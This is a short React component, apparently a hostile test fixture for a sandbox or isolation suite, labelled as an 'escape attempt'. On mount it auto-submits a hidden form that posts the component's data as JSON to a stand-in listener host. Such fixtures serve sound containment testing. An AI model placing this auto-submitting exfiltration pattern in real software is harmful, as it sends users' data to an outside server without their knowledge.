import { useEffect, useRef } from "react";

// Escape attempt: form_submit (a form posting the component's data)
export default function Hostile({ data }) {
  const form = useRef(null);
  useEffect(() => {
    form.current.submit();
  }, []);
  return (
    <form ref={form} method="post" action="__LISTENER__/form_submit">
      <input name="data" defaultValue={JSON.stringify(data)} />
      <p data-testid="hostile">form_submit</p>
    </form>
  );
}
